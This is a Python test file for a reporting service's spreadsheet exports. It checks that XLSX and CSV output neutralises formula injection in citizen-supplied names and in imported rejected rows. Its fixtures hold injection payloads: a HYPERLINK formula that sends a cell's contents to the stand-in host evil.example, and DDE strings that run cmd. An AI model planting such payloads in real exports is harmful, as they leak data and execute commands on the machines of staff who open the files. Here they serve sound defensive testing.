"""F4: what a citizen typed is never a formula in an export. A report whose names are spreadsheet
formulas (a HYPERLINK that would send a cell to another site, a DDE command, a SUM) is exported by
the staff API and the admin page: every XLSX cell is text (no `<f>` in the sheet's XML, the text
kept as typed), and every such CSV cell starts with `'` (OWASP CSV injection). The registry's
rejected-rows CSV, whose names come from the imported file, is neutralised the same way."""
from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from services.sheets import csv_text, neutral, xlsx_bytes
from tests.bot import test_admin
from tests.bot.test_admin import _signed_in
from tests.bot.test_api_registry import _token
from tests.bot.test_api_reports import body
from tests.services.test_coverage import _csv

browser = test_admin.browser

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
DDE = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"


async def _filed(client) -> dict[str, str]:
    headers = await _token(client, "dinsos.api", "dinsos")
    r = await client.post("/api/v1/reports", headers=headers, json=body(
        deceased_name=LINK, reporter_name=DDE, heir_name=SUM, bank_name="-2+3+cmd|' /C calc'!A0",
        bank_holder="\t=1+1"))
    assert r.status_code == 201, r.text
    return headers


def _no_formula(data: bytes) -> list[list[str]]:
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(io.BytesIO(data)).active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return [[c.value for c in row] for row in sheet.iter_rows()]


async def test_the_xlsx_export_holds_text_never_a_formula(client, browser):
    headers = await _filed(client)
    dinsos = await _signed_in(browser, client, "dinsos1", "dinsos")
    for r in (await client.get("/api/v1/reports/export.xlsx", headers=headers),
              await dinsos.get("/admin/laporan/ekspor.xlsx")):
        assert r.status_code == 200
        header, row = _no_formula(r.content)
        values = dict(zip(header, row, strict=True))
        assert (values["almarhum"], values["pelapor"], values["ahli_waris"]) == (LINK, DDE, SUM)  # intact
        assert values["bank"] == "-2+3+cmd|' /C calc'!A0" and values["atas_nama"] == "\t=1+1"


async def test_the_csv_export_neutralises_formula_cells(client, browser):
    headers = await _filed(client)
    dinsos = await _signed_in(browser, client, "dinsos1", "dinsos")
    for r in (await client.get("/api/v1/reports/export.csv", headers=headers),
              await dinsos.get("/admin/laporan/ekspor.csv")):
        header, row = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
        values = dict(zip(header, row, strict=True))
        assert (values["almarhum"], values["pelapor"], values["ahli_waris"]) == ("'" + LINK, "'" + DDE, "'" + SUM)
        assert values["bank"].startswith("'-") and values["atas_nama"] == "'\t=1+1"
        assert values["nik"] == "160201******0003"  # ordinary cells unchanged


async def test_the_rejected_rows_csv_neutralises_names_from_the_file(client):
    headers = await _token(client, "dinsos1", "dinsos")
    bad = f'1602015708850009,"{LINK.replace(chr(34), chr(34) * 2)}",1985-08-17,,x,,Palembang,,2025-01-01,' \
          f"2025-12-31,aktif\n".encode()
    r = await client.post("/api/v1/registry/imports", headers=headers, files={"file": ("d.csv", _csv() + bad)})
    assert r.status_code == 201 and r.json()["rejected"] == 1
    rejected = await client.get(r.json()["rejected_url"], headers=headers)
    [_, row] = list(csv.reader(io.StringIO(rejected.text)))
    assert row[2] == "'" + LINK


def test_one_helper_for_every_cell():
    assert [neutral(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=1", "", None, 12)] == \
           ["'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=1", "", "", "12"]
    assert csv_text([["=1", "ok"]]) == "'=1,ok\r\n"
    assert _no_formula(xlsx_bytes([["=1+1", LINK, "ok"]])) == [["=1+1", LINK, "ok"]]
